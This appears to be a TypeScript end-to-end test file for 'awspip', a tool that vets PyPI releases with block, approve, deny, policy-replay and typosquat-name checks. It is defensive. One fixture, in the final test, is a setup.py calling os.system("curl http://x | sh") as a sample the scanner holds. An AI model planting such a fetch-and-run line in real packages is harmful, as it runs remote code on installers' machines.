import { readFile, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { text } from 'node:stream/consumers';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { signature, signatureHeader } from '../../src/workflow/notices/webhook.ts';
import { type Sandbox, sandbox, startProcess, until } from '../helpers/awspip.ts';
import { wheel } from '../helpers/distributions.ts';
import { tarGz } from '../helpers/judgement-archives.ts';
import { longTest } from '../helpers/long-form.ts';
import { type Facts, type PackageIndex, startPackageIndex } from '../helpers/package-index.ts';

let packageIndex: PackageIndex;
let user: Sandbox;

const suspicious: Facts = {
  downloads: 120,
  repository: false,
  olderVersions: 0,
  uploadTime: '2021-10-01T00:00:00Z',
};
function publish(name: string, facts: Facts = {}, requires: readonly string[] = []) {
  packageIndex.publish(name, '0.2', wheel({ name, version: '0.2', requires: [...requires] }), facts);
}

beforeAll(async () => {
  packageIndex = await startPackageIndex();
  user = await sandbox(packageIndex.environment);
});
afterAll(async () => {
  await user.remove();
  await packageIndex.close();
});

test('a blocked release is explained, approved, vetted again and installed', async () => {
  publish('request2', suspicious);
  const install = () => user.install(['--target', 'request2', 'request2']);
  const blocked = await install();
  expect(blocked.exitCode).toBe(10);
  expect(blocked.stderr).toContain('`awspip explain request2==0.2`');
  expect(blocked.stderr).toContain('`awspip approve request2==0.2 --reason "…"`');

  const explained = await user.run(['explain', 'request2==0.2']);
  expect(explained.exitCode).toBe(0);
  expect(explained.stdout).toMatch(/^request2 0\.2 is blocked \(Red, score 50\)\njudged .* by policy recommended-/);
  expect(explained.stdout).toContain('\non record as blocked since ');
  expect(explained.stdout).toContain('  +20  Downloads < 300: 120\n       pypistats, just now\n');
  expect(explained.stdout).toContain('  +10  GitHub stars < 30: 0\n       PyPI: no GitHub repository declared, ');
  expect(explained.stdout).toContain('\nWhat would change the verdict\n');
  expect(explained.stdout).toContain('\nThe only listed version is not allowed\n');

  expect(await user.run(['explain', 'surely-no-such-project'])).toMatchObject({ exitCode: 12, stdout: '' });
  expect(await user.run(['approve', 'request2>0', '--reason', ' '])).toMatchObject({ exitCode: 64, stdout: '' });

  const approved = await user.run(['approve', 'request2==0.2', '--reason', 'we read all of it', '--owner', 'lea']);
  expect(approved).toMatchObject({ exitCode: 0, stderr: '' });
  expect(approved.stdout).toMatch(
    /^approved request2==0\.2 by lea, no end \(id [\w-]+\)\nrestarted 1 request; run the install again\n$/,
  );
  await until('the request to be vetted again', async () => {
    const { stdout } = await user.run(['status', '--json']);
    return JSON.parse(stdout).releases.some(
      (release: { name: string; status: string }) => release.name === 'request2' && release.status === 'SECURE',
    );
  });
  expect(await install()).toMatchObject({ exitCode: 0, report: { pipRuns: 1 } });
  const again = JSON.parse((await user.run(['explain', 'request2', '--json'])).stdout);
  expect(again).toMatchObject({
    version: '0.2',
    by: 'record',
    record: { status: 'SECURE' },
    standing: { kind: 'approve', owner: 'lea', reason: 'we read all of it' },
    passing: { version: '0.2' },
  });
});

test('vet checks a file without installing, as text, JSON, SARIF and JUnit', async () => {
  publish('fine');
  publish('shady', suspicious);
  publish('needy', {}, ['shady']);
  await writeFile(user.path('requirements.txt'), '# a comment\nfine==0.2\nneedy\nshady==0.2  # another\n');
  const vet = ['vet', '-r', 'requirements.txt'];
  const text = await user.run(vet);
  expect(text.exitCode).toBe(10);
  expect(text.stdout).toContain('requirements.txt:4: shady 0.2 is blocked (Red, score 50)');
  expect(text.stdout).toContain('awspip approve shady==0.2 --reason "…"');

  const json = await user.run([...vet, '--json']);
  expect(JSON.parse(json.stdout)).toMatchObject({
    exitCode: 10,
    reason: 'blocked',
    requirements: [
      { text: 'fine==0.2', file: 'requirements.txt', line: 2 },
      { text: 'needy', file: 'requirements.txt', line: 3 },
      { text: 'shady==0.2', file: 'requirements.txt', line: 4 },
    ],
    findings: [{ code: 'blocked', level: 'error', subject: 'shady 0.2', at: { line: 4 } }],
  });
  const sarif = await user.run([...vet, '--format', 'sarif', '--output', 'found.sarif']);
  expect(sarif).toMatchObject({ exitCode: 10, stdout: '' });
  // The log of a job says why it fails, also if the result is in a file.
  expect(sarif.stderr).toContain('requirements.txt:4: shady 0.2 is blocked');
  const { runs } = JSON.parse(await readFile(user.path('found.sarif'), 'utf8'));
  expect(runs[0].results[0]).toMatchObject({
    ruleId: 'blocked',
    locations: [{ physicalLocation: { artifactLocation: { uri: 'requirements.txt' }, region: { startLine: 4 } } }],
  });
  const junit = await user.run([...vet, '--format', 'junit']);
  expect(junit.stdout).toContain('<testsuites name="awspip vet" tests="3" failures="2" errors="0">');

  const good = await user.run(['vet', 'fine', '--format', 'junit']);
  expect(good).toMatchObject({ exitCode: 0 });
  expect(good.stdout).toContain('<testcase classname="awspip.vet" name="fine"/>');
  const unwritable = await user.run(['vet', 'fine', '--output', 'no-such-folder/vet.txt']);
  expect(unwritable).toMatchObject({
    exitCode: 78,
    stderr: expect.stringContaining('cannot write the output to `no-such-folder/vet.txt`: ENOENT'),
  });
  expect(await user.run(['vet'])).toMatchObject({ exitCode: 64 });
  expect(await user.run(['vet', 'git+https://example.org/x.git'])).toMatchObject({ exitCode: 64 });
  expect((await user.run(['vet', 'surely-no-such-project'])).exitCode).toBe(12);
});

test('a denial blocks a release that the policy allows, and explain begins with it', async () => {
  publish('liked');
  const denied = await user.run(['deny', 'liked', '--reason', 'use fine', '--until', '2999-12-31', '--json']);
  expect(JSON.parse(denied.stdout)).toMatchObject({
    kind: 'deny',
    name: 'liked',
    expiresAt: '2999-12-31T23:59:59.999Z',
  });
  const { exitCode, report } = await user.install(['--target', 'liked', 'liked']);
  expect(exitCode).toBe(10);
  expect(report.refusals[0]?.reasons[0]?.text).toMatch(/^Denied by .+: use fine$/);
  const { stdout } = await user.run(['explain', 'liked']);
  expect(stdout.replace(/\s+/g, ' ')).toMatch(
    /^liked 0\.2 is denied by \S+ until .* years\): use fine The policy's verdict is allowed /,
  );
});

test('replay lists what another policy would change, from the records alone', async () => {
  await writeFile(user.path('lax.json'), JSON.stringify({ name: 'lax', levels: { yellow: 60, red: 70 } }));
  const before = packageIndex.requests.length;
  const { stdout, exitCode } = await user.run(['policy', 'replay', 'lax.json']);
  expect(exitCode).toBe(0);
  expect(stdout).toMatch(/^judged \d+ releases again under lax-[0-9a-f]{8}: 2 would change/);
  expect(stdout).toMatch(/\n {2}blocked -> allowed {2}shady 0\.2 {2}score 50 -> 50\n/);
  expect(stdout).toMatch(/request2 0\.2 .*; allowed by an approval\n/);
  expect(packageIndex.requests.length).toBe(before);
  expect((await user.run(['policy', 'replay', 'recommended'])).stdout).toContain('nothing would change');
});

test('what is requested is in the queue with its reason, until several decisions at once take it out', async () => {
  publish('wanted', suspicious);
  publish('wished', suspicious);
  const received: { signature: string; body: string }[] = [];
  const hook = createServer(async (incoming, response) => {
    received.push({ signature: String(incoming.headers[signatureHeader]), body: await text(incoming) });
    response.end();
  });
  await new Promise<void>((resolve) => hook.listen(0, '127.0.0.1', resolve));
  const webhook = `http://127.0.0.1:${(hook.address() as AddressInfo).port}/in`;
  const notify = `notify: { webhook: "${webhook}", page: "https://review.example/" }`;
  const contact = "contact: '#python'";
  await writeFile(
    user.path('team.yaml'),
    `name: team\nextends: recommended\n${contact}\napprovals: { maxDays: 30 }\n${notify}\n`,
  );
  const policy = { AWSPIP_POLICY: user.path('team.yaml'), AWSPIP_WEBHOOK_SECRET: 'hunter2' };
  const requested = await user.run(['request', 'wanted==0.2', 'wished', '--reason', 'for the report'], policy);
  expect(requested.exitCode).toBe(0);
  expect(requested.stdout).toContain('in the queue of the approvers: ');
  expect(requested.stdout).toContain('contact: #python\n');
  const queue = async () => JSON.parse((await user.run(['holds', '--mine', '--name', 'w*', '--json'], policy)).stdout);
  expect(await queue()).toMatchObject({
    holds: expect.arrayContaining([
      expect.objectContaining({
        name: 'wanted',
        version: '0.2',
        state: 'undecided',
        requesters: [expect.objectContaining({ reason: 'for the report' })],
      }),
    ]),
    omitted: 0,
    contact: '#python',
  });

  const notice = await until('the notice', () => received[0]);
  const seconds = Number(/^t=(\d+),/.exec(notice.signature)?.[1]);
  expect(notice.signature).toBe(signature(notice.body, 'hunter2', seconds * 1000));
  expect(JSON.parse(notice.body)).toMatchObject({
    request: { status: 'BLOCKED', reason: 'for the report' },
    page: 'https://review.example/',
    contact: '#python',
  });
  hook.close();

  await writeFile(user.path('reviewed.txt'), 'wanted==0.2\nwished  # too\n');
  const approve = ['approve', '-r', 'reviewed.txt', '--reason', 'read both'];
  const approved = await user.run(approve, policy);
  expect(approved.exitCode).toBe(0);
  expect(approved.stdout).toMatch(/approved wanted==0\.2 by \S+, until .*\(in 30 days\)/);
  expect(approved.stderr).toContain('awspip: approving 2 releases\n');
  const { holds } = await queue();
  expect(holds.map(({ decision }: { decision?: object }) => decision)).toEqual(
    holds.map(() => expect.objectContaining({ reason: 'read both' })),
  );
  const audit = JSON.parse((await user.run(['audit', '--since', '1h', '--json'], policy)).stdout);
  expect(audit.entries[0]).toMatchObject({ kind: 'decision', before: null, actor: { from: expect.any(String) } });
  expect(audit.entries.find(({ kind }: { kind: string }) => kind === 'policy')).toMatchObject({
    after: expect.anything(),
  });
});

// The unit tests of `makeDecisions` and `setStatus` hold the parts of this promise.
longTest(
  'a denial with --remove archives what the repository has; an approval with --restore reverses it',
  async () => {
    publish('passing');
    expect(await user.install(['--target', 'passing', 'passing'])).toMatchObject({ exitCode: 0 });
    const removed = await user.run(['deny', 'passing', '--remove', '--reason', 'abandoned']);
    expect(removed.stdout).toContain('archived in the vetted repository: 0.2; this command reverses it:\n');
    expect(await user.install(['--target', 'gone', 'passing'])).toMatchObject({ exitCode: 10 });
    const restored = await user.run(['approve', 'passing', '--restore', '--reason', 'maintained again']);
    expect(restored.stdout).toContain('published in the vetted repository again: 0.2\n');
    expect(await user.install(['--target', 'back', 'passing'])).toMatchObject({ exitCode: 0 });
    const history = await user.run(['history', 'passing']);
    expect(history.stdout).toMatch(/every version approved by \S+: maintained again\n(.*\n)*.* 0\.2 archived by \S+\n/);
  },
);

const bin = path.resolve(import.meta.dirname, '../../bin/awspip.js');
const shell = (script: string) =>
  startProcess('sh', ['-c', script, process.execPath, bin], user.environment, user.folder).ended;

test('policy names prints one line per name, also for names of 10 MB, and ends when its reader ends', async () => {
  const names =
    "printf 'reqeusts\\nrequest2\\n\\033[31mred\\n'; head -c 10000000 /dev/zero | tr '\\0' a; printf '\\nrequests\\n'";
  const { stdout, exitCode } = await shell(`(${names}) | "$0" "$1" policy names`);
  expect(exitCode).toBe(0);
  const lines = stdout
    .trim()
    .split('\n')
    .map((line) => JSON.parse(line));
  expect(lines.map(({ name }) => name.slice(0, 8))).toEqual([
    'reqeusts',
    'request2',
    '\u001b[31mred',
    'aaaaaaaa',
    'requests',
  ]);
  expect(lines[0].similar[0]).toMatchObject({ target: 'requests', confidence: expect.any(Number) });
  expect(lines.slice(1).map(({ similar }) => similar)).toEqual([[], [], [], []]);
  expect((await shell('yes reqeusts | "$0" "$1" policy names | head -n 1')).stdout).toBe(`${stdout.split('\n')[0]}\n`);
});

test('policy check lists every mistake with its line, and ends with 78', async () => {
  await writeFile(
    user.path('bad.json'),
    '{"name": "strict",\n "rules": [{"signal": "downloads", "below": -3}],\n "nope": 1}',
  );
  const { exitCode, stderr, stdout } = await user.run(['policy', 'check', 'bad.json']);
  expect({ exitCode, stdout }).toEqual({ exitCode: 78, stdout: '' });
  expect(stderr).toMatch(/line 2, column \d+: .*below/);
  expect(stderr).toMatch(/line 3, column 2: `nope`/);
  expect((await user.run(['policy', 'check', 'lax.json'])).stdout).toMatch(/^valid: lax-[0-9a-f]{8}, 6 rules\n$/);
});

test('policy check warns on stderr and ends with 0; policy show writes a file and those it extends as one', async () => {
  await writeFile(user.path('base.yaml'), 'name: base\nallow: [{ name: "*", reason: all }]\n');
  await writeFile(user.path('ours.yaml'), 'name: ours\nextends: ./base.yaml\nnewest: 2026-11-20T00:00Z\n');
  const { exitCode, stdout, stderr } = await user.run(['policy', 'check', 'ours.yaml']);
  expect({ exitCode, stderr }).toEqual({
    exitCode: 0,
    stderr: 'warning: `allow.0`: `*` allows every release that no gate blocks\n',
  });
  const shown = await user.run(['policy', 'show', 'ours.yaml', '--json']);
  await writeFile(user.path('one.json'), shown.stdout);
  expect((await user.run(['policy', 'check', 'one.json'])).stdout).toBe(stdout);
});

test('an approval without the permission on AWS ends with 77 and names an approver’s command', async () => {
  const server: Server = createServer((request, response) => {
    request.resume();
    response.writeHead(400, { 'content-type': 'application/x-amz-json-1.0' });
    response.end(
      JSON.stringify({
        __type: 'com.amazon.coral.service#AccessDeniedException',
        Message: 'User: arn:aws:iam::123456789012:user/dev is not authorized to perform: dynamodb:PutItem',
      }),
    );
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { exitCode, stderr, stdout } = await user.run(['approve', 'request2==0.2', '--reason', 'please'], {
    AWSPIP_STACK: 'aws',
    AWSPIP_DOMAIN: 'team',
    AWS_REGION: 'eu-west-1',
    AWS_ACCESS_KEY_ID: 'test',
    AWS_SECRET_ACCESS_KEY: 'test',
    AWS_ENDPOINT_URL: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
  });
  server.close();
  expect(exitCode).toBe(77);
  expect(stdout).toBe('');
  expect(stderr).toContain('these credentials may not approve releases: ');
  expect(stderr).toContain('dynamodb:PutItem');
  expect(stderr).toContain('`awspip approve request2==0.2 --reason "…"`');
});

describe('a wrong command line', () => {
  test.each([
    [['status', '--frobnicate'], 'awspip status --help'],
    [['approve', 'request2'], 'awspip approve --help'],
    [['local', 'frobnicate'], 'awspip local --help'],
    [['--awspip-help'], 'awspip help settings'],
  ])('%j ends with 64 and names the help', async (argv, command) => {
    const { exitCode, stdout, stderr } = await user.run(argv);
    expect([exitCode, stdout, stderr]).toEqual([64, '', expect.stringContaining(`\`${command}\``)]);
  });
});

test('policy inspect prints one line per file with its outcome and findings', async () => {
  const attack = tarGz([{ path: 'zzqx-1.0/setup.py', text: 'import os\nos.system("curl http://x | sh")\n' }]);
  const plain = tarGz([{ path: 'zzqx-1.1/setup.py', text: 'from setuptools import setup\nsetup()\n' }]);
  const files = { 'zzqx-1.0.tar.gz': attack, 'zzqx-1.1.tar.gz': plain, 'zzqx-1.2.tar.gz': Buffer.from('broken') };
  for (const [name, content] of Object.entries(files)) await writeFile(user.path(name), content);
  const paths = Object.keys(files).map((name) => user.path(name));
  const { stdout, exitCode } = await user.run(['policy', 'inspect', '--ranked', ...paths]);
  expect(exitCode).toBe(0);
  const lines = stdout.trim().split('\n');
  expect(lines.map((line) => JSON.parse(line))).toMatchObject([
    {
      file: paths[0],
      outcome: 'HELD',
      findings: [{ kind: 'program', path: 'setup.py', line: 2, seen: expect.stringContaining('curl') }],
    },
    { file: paths[1], outcome: 'ALLOWED', findings: [] },
    { file: paths[2], outcome: 'HELD', unreadable: expect.stringContaining('damaged'), findings: [] },
  ]);
  expect(await user.run(['policy', 'inspect', user.path('missing.whl')])).toMatchObject({ exitCode: 78 });
});
